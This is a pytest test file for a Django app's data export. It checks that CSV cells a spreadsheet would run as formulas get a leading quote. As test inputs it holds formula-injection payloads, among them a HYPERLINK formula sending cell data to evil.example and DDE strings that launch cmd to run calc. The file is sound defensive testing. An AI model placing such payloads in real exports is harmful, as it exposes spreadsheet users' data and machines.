"""CSV formula injection: every `peerwheel export` neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.core.management import call_command

from peerwheel.core.export import neutralise, neutralise_frame, write_csv_rows, write_rows
from peerwheel.hub.services import post_publish
from peerwheel.org.models import Person
from peerwheel.usage.services import usage_import

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for the prompt")'
ATTACKS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_text_cell_that_would_run_as_a_formula_gets_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "", "3 minutes", "a=b", "'already quoted", "x-y"])
def test_ordinary_text_is_written_as_it_is(cell: str) -> None:
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_and_text_that_looks_like_a_number_is_text() -> None:
    assert neutralise(-3) == -3
    assert neutralise(-2.5) == -2.5
    assert neutralise(True) is True
    assert neutralise(None) is None
    assert neutralise("-3") == "'-3"


def test_separators_quotes_and_line_breaks_stay_inside_their_cell() -> None:
    target = io.StringIO()
    write_csv_rows(target, ["a", "b"], [{"a": 'x,"y"\n=z', "b": -1}])
    assert target.getvalue() == 'a,b\n"x,""y""\n=z",-1\n'
    assert _csv(target.getvalue()) == [{"a": 'x,"y"\n=z', "b": "-1"}]


def test_an_unknown_format_is_an_error_naming_the_choices() -> None:
    with pytest.raises(ValueError, match="'xlsx' is unknown; use csv, json, parquet"):
        write_rows(io.StringIO(), "xlsx", ["a"], [])


def test_a_frame_is_neutralised_in_its_text_columns_only() -> None:
    frame = pd.DataFrame(
        {
            "id": ["=1+1", "ok", None],
            "minutes": [-3, 4, 5],
            "mixed": [-3, "@x", 2.5],
        }
    )
    out = neutralise_frame(frame)
    assert out["id"].tolist()[:2] == ["'=1+1", "ok"]
    assert pd.isna(out["id"].iloc[2])
    assert out["minutes"].tolist() == [-3, 4, 5]
    assert out["mixed"].tolist() == [-3, "'@x", 2.5]
    assert frame["id"].iloc[0] == "=1+1"  # the input is not changed


@pytest.mark.django_db
def test_export_posts_neutralises_a_hyperlink_title(
    org: dict[str, Person], capsys: pytest.CaptureFixture[str]
) -> None:
    post = post_publish(
        author=org["alice"],
        kind="tip",
        title=HYPERLINK,
        body="@SUM(1+1)*cmd|' /C calc'!A0",
        tool="-2+3+cmd|' /C calc'!A0",
        task="+1",
        minutes_saved=5,
    )
    call_command("exportdata", "posts")
    (row,) = _csv(capsys.readouterr().out)
    assert row["title"] == "'" + HYPERLINK
    assert row["body"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["tool"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["task"] == "'+1"
    assert row["minutes_saved"] == "5"
    assert row["id"] == str(post.pk)
    # JSON is data for programs: written as typed.
    call_command("exportdata", "posts", "--format", "json")
    (record,) = json.loads(capsys.readouterr().out)
    assert record["title"] == HYPERLINK


@pytest.mark.django_db
def test_export_people_neutralises_a_formula_name(
    org: dict[str, Person], capsys: pytest.CaptureFixture[str]
) -> None:
    Person.objects.filter(pk=org["alice"].pk).update(name="=cmd|' /C calc'!A0", job_title="\t=1+1")
    call_command("exportdata", "people")
    rows = {r["employee_id"]: r for r in _csv(capsys.readouterr().out)}
    assert rows["E2"]["name"] == "'=cmd|' /C calc'!A0"
    assert rows["E2"]["job_title"] == "'\t=1+1"
    assert rows["E3"]["name"] == "Bob Brown"


@pytest.mark.django_db
def test_export_segments_neutralises_an_imported_formula_id(
    org: dict[str, Person], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    start = date(2025, 1, 6)
    lines = ["email,week,tool,actions,agent_actions"]
    for week in range(2):
        monday = start + timedelta(weeks=week)
        lines.append(f"alice@example.com,{monday},ChatGPT Enterprise,8,0")
        lines.append(f"\"@SUM(1+1)*cmd|' /C calc'!A0\",{monday},ChatGPT Enterprise,3,0")
    path = tmp_path / "usage.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    usage_import("usage-csv", path)
    call_command("exportdata", "segments")
    ids = {r["person_id"] for r in _csv(capsys.readouterr().out)}
    assert ids == {"alice@example.com", "'@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["people", "posts", "segments", "usage"])
def test_every_kind_exports_the_same_rows_as_parquet(
    kind: str, org: dict[str, Person], tmp_path: Path
) -> None:
    post_publish(author=org["alice"], kind="tip", title="=1+1", body="Daily.", tool="Copilot")
    path = tmp_path / "usage.csv"
    path.write_text("email,week,tool,actions\nalice@example.com,2025-01-06,Copilot,4\n", "utf-8")
    usage_import("usage-csv", path)
    as_csv, as_parquet = tmp_path / f"{kind}.csv", tmp_path / f"{kind}.parquet"

    call_command("exportdata", kind, "--out", str(as_csv))
    call_command("exportdata", kind, "--format", "parquet", "--out", str(as_parquet))

    rows = _csv(as_csv.read_text("utf-8"))
    table = pq.read_table(as_parquet)
    assert rows and table.num_rows == len(rows)
    assert table.schema.names == list(rows[0])
    assert not as_parquet.with_name(f"{kind}.parquet.partial").exists()
